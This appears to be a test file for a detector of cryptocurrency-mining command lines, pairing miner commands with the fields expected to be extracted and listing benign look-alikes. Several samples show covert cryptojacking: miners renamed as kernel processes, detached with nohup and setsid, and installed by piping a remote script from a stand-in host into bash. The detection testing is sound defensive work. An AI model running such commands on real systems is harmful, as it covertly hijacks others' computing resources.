import assert from "node:assert/strict";
import { test } from "node:test";
import { minerCommandOf } from "../../src/tables/miner-command.ts";

/** Nobody's: made from a constant, its checksum holds. */
const XMR = "47GprUiHcahFwrywVBncbn4vq5C9kWGiHZzV3YBagK1q4sBoGMpwTHYDuVrAgVnC22aCD1iTY88f93PFzvdCtYUAUTs5TB5";
const POOL = "pool.example.net:3333";

const MINERS: readonly (readonly [line: string, expected: Readonly<Record<string, unknown>>])[] = [
  ["./xmrig", { software: "xmrig", marks: ["name"] }],
  ["xmrig -c /tmp/config.json -B", { software: "xmrig", config: "/tmp/config.json" }],
  [`/opt/xmrig-6.21.0 -o ${POOL} -u ${XMR}.rig7 -p x`, { software: "xmrig", worker: "rig7", pools: [POOL] }],
  [
    `/tmp/.x/kswapd0 -a rx/0 -o stratum+tcp://${POOL} -u ${XMR} -p web01`,
    { software: null, pools: [`stratum+tcp://${POOL}`], algorithm: "rx/0", user: XMR },
  ],
  [`kthreadadd64 ${POOL} ${XMR}`, { software: null, pools: [POOL] }],
  ["./a --url=10.0.0.5:80 --user=me --donate-level=1 -k", { pools: ["10.0.0.5:80"], user: "me" }],
  ["./a -o 192.0.2.7:443 -u rig -p x", { pools: ["192.0.2.7:443"], user: "rig" }],
  [
    `nohup setsid nice -n 19 ./x -o ${POOL} -u ${XMR} >/dev/null 2>&1 &`,
    { through: ["nohup", "setsid", "nice"] },
  ],
  [`screen -dmS job bash -c 'cd /tmp && exec ./x -o ${POOL} -u ${XMR}'`, { program: "./x" }],
  [`cd /tmp; chmod +x x; FOO=1 ./x --coin monero -o ${POOL} -u ${XMR}`, { coin: "monero" }],
  [
    "minerd -a scrypt -O user.1:x -o stratum+tcp://ltc.pool.example:3333",
    { software: "cpuminer", user: "user.1" },
  ],
  ["docker run -d --name web --cpus 2 metal3d/xmrig:latest", { software: "xmrig", through: ["docker"] }],
  [
    "PhoenixMiner.exe -pool ssl://eth.pool.example:5555 -wal 0x52908400098527886E0F7030069857D2E4169EE7.rig",
    { software: "phoenixminer", pools: ["ssl://eth.pool.example:5555"], worker: "rig" },
  ],
  [
    "ethminer -U -P stratum1+tcp://0x52908400098527886E0F7030069857D2E4169EE7.rig@eth.pool.example:4444",
    { software: "ethminer", pools: ["stratum1+tcp://eth.pool.example:4444"], worker: "rig" },
  ],
  [
    "C:\\Users\\Public\\lolMiner.exe --algo ETCHASH --pool etc.pool.example --port 1010 --user w",
    {
      software: "lolminer",
      pools: ["etc.pool.example:1010"],
    },
  ],
  [
    `curl -s -L https://pool.example/setup_c3pool_miner.sh | LC_ALL=C bash -s ${XMR}`,
    {
      marks: ["installer", "wallet"],
      user: XMR,
    },
  ],
  ["bash setup_moneroocean_miner.sh", { marks: ["installer"] }],
  ["monerod --start-mining ADDRESS --mining-threads 2", { software: "monerod" }],
  ["true; ./xmr-stak --currency monero7", { software: "xmr-stak" }],
  [`(sleep 5; sudo -u www-data ./b -o ${POOL} -u ${XMR}) &`, { program: "./b", through: ["sudo"] }],
];

for (const [line, expected] of MINERS) {
  test(`${line.slice(0, 70)} is a miner's`, () => {
    const found = minerCommandOf(line);
    assert.ok(found !== null, "is found");
    for (const [key, value] of Object.entries(expected)) {
      assert.deepEqual(found[key as keyof typeof found], value, key);
    }
    if (line.includes(XMR)) assert.equal(found.wallet?.address, XMR);
  });
}

const OTHERS: readonly string[] = [
  "",
  "rsync -a -u -p src/ backup.example:873",
  "rsync -a -u -p -o host.example:3333 x",
  "sync-tool -a -u -p -o host.example:3333 x",
  "ps aux | grep xmrig",
  "tail -f /var/log/xmrig.log",
  "vim xmrig/config.json",
  "apt-get install -y xmrig",
  "dpkg -l xmrig",
  "pkill -9 xmrig; killall minerd",
  "git clone https://github.com/xmrig/xmrig.git",
  "xmrig --version",
  "https://pool.example/setup_c3pool_miner.sh",
  "wget https://pool.example/setup_c3pool_miner.sh",
  `bitcoin-cli sendtoaddress bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 0.1`,
  `wallet-tool transfer ${XMR} 0.5`,
  "mysqldump -u root -p x -h db.example",
  "loadtest -o host.example:8080 -u admin -p secret",
  "java -jar app.jar --url=jdbc.example:5432 --user=app --pass=app",
  "openssl s_client -connect pool.example.net:3333",
  "nc -zv pool.example.net 3333",
  "monerod --detach",
  "python3 /opt/xmrig_exporter.py --url 127.0.0.1:8080",
  "ccminer_docs_viewer -a x11",
  "ffmpeg -i a -c copy -o out.mkv -threads 4 -u x",
  "curl -o out.html -u user:pw https://host.example:8443/x -p x",
  "[kworker/0:1-events]",
  "/usr/sbin/sshd -D -o Port=2222",
  "make -j8 xmrig",
  "echo './xmrig -o stratum+tcp://pool.example.net:3333' >> notes.txt",
  "gcc -o miner miner.c -a -u",
  "bash miner.sh",
  "node server.js --server localhost:3000 --user dev",
];

for (const line of OTHERS) {
  test(`"${line.slice(0, 70)}" is no miner's`, () => {
    assert.equal(minerCommandOf(line), null);
  });
}

test("what a hostile command line nests and never closes ends at once", () => {
  const lines = ["'", '"', "$(", "(", "`", "sudo ", "bash -c '", "-o ", "|", "> ", "\\", "docker run "];
  for (const line of lines) minerCommandOf(line.repeat(20_000));
  minerCommandOf("a".repeat(5_000_000));
  minerCommandOf(`x -u ${"1.".repeat(100_000)}`);
});
